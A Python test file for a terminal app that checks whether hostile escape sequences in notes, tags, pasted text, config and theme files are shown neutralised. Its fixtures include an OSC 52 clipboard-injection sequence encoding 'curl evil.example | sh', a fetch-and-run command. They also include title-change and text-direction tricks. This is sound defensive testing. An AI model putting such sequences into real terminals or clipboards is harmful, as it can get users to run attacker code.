"""Untrusted text that reaches the terminal by other doors than the card: the edit dialog (a
stranger's notes and tags in an Input and a TextArea), and text from config and theme files (rule
questions, reply templates on screen and in the clipboard, keys from the keymap, theme file names
and variables in notices).

Each is checked on what the widgets render, what the notices say and what the clipboard holds; the
edit dialog is also run on a real pty in test_pty.py."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.app.conftest import build, notices, settle
from tests.corpus import assert_inert
from tests.hostile.conftest import PATHS
from tests.hostile.test_app_paths import rendered
from tui.models import Request
from tui.rules import Rule
from tui.store import Store

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
OSC0 = "\x1b]0;pwned title\x1b\\"
NOTES = f"first line {OSC52}\nsecond \u202eline {OSC0} \x9d0;c1\x9c tag\U000e0041 sep\u2028end"
TAGS = [f"vip{OSC0}", "plain", "\u202eflip\x07"]


@pytest.fixture
def store(tmp_path: Path) -> Store:
    store = Store.open(tmp_path / "data")
    store.add_request(Request(name="Dana Hostile", notes=NOTES, tags=TAGS, company="Acme"))
    return store


class TestEditDialog:
    async def test_shows_cleaned_text_and_keeps_the_original_when_nothing_changes(self, store: Store, tmp_path: Path) -> None:
        from textual.widgets import Input, TextArea

        app = build(store, tmp_path)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press("e")
            await pilot.pause()
            tags, notes = app.screen.query_one("#edit-tags", Input), app.screen.query_one("#edit-notes", TextArea)
            for shown in (tags.value, notes.text, rendered(app)[0]):
                assert_inert(shown, "edit dialog")
            assert "\ufffd]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" in notes.text and notes.text.count("\n") == 1
            assert "plain" in tags.value
            await pilot.press("ctrl+s")
            await settle(pilot)
        again = Store.open(store.root).get_request("r1")
        assert (again.notes, again.tags) == (NOTES, TAGS), "saving an unchanged dialog changed the stored original"
        PATHS["edit dialog (Pilot)"] = 2

    async def test_a_changed_field_is_saved_as_shown_and_the_other_kept(self, store: Store, tmp_path: Path) -> None:
        app = build(store, tmp_path)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press("e")
            await pilot.pause()
            await pilot.press("tab")  # to the notes
            await pilot.press("down", "end", *" ok")
            await pilot.press("ctrl+s")
            await settle(pilot)
        again = Store.open(store.root).get_request("r1")
        assert again.tags == TAGS
        assert again.notes.endswith(" ok") and again.notes.startswith("first line \ufffd]52;c;")
        assert_inert(again.notes, "notes the user saved")

    async def test_pasted_text_arrives_cleaned(self, store: Store, tmp_path: Path) -> None:
        """A stranger's text copied from elsewhere and pasted in is cleaned on the way in too."""
        from textual import events
        from textual.widgets import Input, TextArea

        app = build(store, tmp_path)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press("e")
            await pilot.pause()
            for selector in ("#edit-tags", "#edit-notes"):
                widget = app.screen.query_one(selector)
                widget.focus()
                widget.post_message(events.Paste(f"pasted {OSC52} and\n{OSC0}\u202e"))
                await pilot.pause()
            tags, notes = app.screen.query_one("#edit-tags", Input).value, app.screen.query_one("#edit-notes", TextArea).text
            assert "pasted" in tags and "pasted" in notes
            for shown in (tags, notes, rendered(app)[0]):
                assert_inert(shown, "after a paste")


class TestEveryInput:
    @pytest.mark.parametrize("key, selector", [("slash", "#search-input"), ("z", "#defer-date"), ("c", "#contacts-search")])
    async def test_pasting_into_any_input_draws_nothing_raw(self, store: Store, tmp_path: Path, key: str, selector: str) -> None:
        """A name copied from a stranger's profile and pasted into a search box is drawn by it."""
        from textual import events

        app = build(store, tmp_path)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press(key)
            await settle(pilot)
            field = app.screen.query_one(selector)
            field.focus()
            field.post_message(events.Paste(f"Dana{OSC52}{OSC0}\u202e"))
            await pilot.pause()
            assert "Dana" in field.value  # type: ignore[attr-defined]
            assert_inert(field.value, selector)  # type: ignore[attr-defined]
            assert_inert(rendered(app)[0], selector)
        PATHS[f"paste into {selector}"] = 1


class TestConfigText:
    async def test_rule_questions_are_cleaned(self, store: Store, tmp_path: Path) -> None:
        rules = (Rule("drink", f"Drink?{OSC0}\u202e\x9b2J"), Rule("local", f"Near {OSC52}\nenough?"))
        app = build(store, tmp_path, rules=rules)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            text = rendered(app)[0]
            assert "Drink?" in text and "Near" in text
            assert_inert(text, "rule panel")
            await pilot.press("n", "n")
            await pilot.press("t")  # stats: which rule said no most often
            await settle(pilot)
            assert_inert(rendered(app)[0], "stats")
        PATHS["rule questions from config"] = 2

    async def test_reply_templates_reach_screen_and_clipboard_cleaned(self, store: Store, tmp_path: Path) -> None:
        replies = (
            (f"Ask{OSC0}", f"Hi {{first_name}},{OSC52}\nwhy\u202e connect?\x07", "ask"),
        )  # (name, text, action), as config.toml gives them
        app = build(store, tmp_path, replies=replies)
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            await pilot.press("r")
            await pilot.pause()
            assert_inert(rendered(app)[0], "reply templates")
            await pilot.press("enter")
            await pilot.pause()
            assert app.clipboard.startswith("Hi Dana,") and "\nwhy connect?" in app.clipboard
            assert_inert(app.clipboard, "clipboard")
            assert_inert(rendered(app)[0], "chosen reply")
        PATHS["reply templates from config (screen, clipboard)"] = 2

    async def test_keys_from_the_keymap_are_cleaned(self, store: Store, tmp_path: Path) -> None:
        app = build(store, tmp_path, keymap={"skip-request": "\x1b]0;t\x07,\u202ex", "show-help": "question_mark"})
        async with app.run_test(size=(80, 24)) as pilot:
            await settle(pilot)
            assert_inert(rendered(app)[0], "key bar")
            await pilot.press("question_mark")
            await settle(pilot)
            assert_inert(rendered(app)[0], "help")
        PATHS["keys from the keymap"] = 2


class TestThemeNotices:
    async def test_theme_file_names_and_variables_are_cleaned_in_notices(self, store: Store, tmp_path: Path) -> None:
        themes = tmp_path / "config" / "themes"
        themes.mkdir(parents=True)
        (themes / "evil\x1b]0;title\x07\u202e.toml").write_text('name = "evil"\nprimary = "nope"\n')
        (themes / "vars.toml").write_text('name = "vars"\nprimary = "#336699"\n[variables]\n"k\\u001b]0;t\\u0007\\u202e" = "red"\n')
        app = build(store, tmp_path, theme="\x1b]52;c;eA==\x07\u202e")
        seen: list[object] = []
        async with app.run_test(size=(80, 24), message_hook=seen.append) as pilot:
            await settle(pilot)
            told = notices(seen)
            assert any("evil" in n for n in told) and any("vars.toml" in n for n in told) and any("Unknown theme" in n for n in told)
            for notice in told:
                assert_inert(notice, "theme notice")
            assert_inert(rendered(app)[0], "screen with notices")
        PATHS["theme file names and variables in notices"] = 3
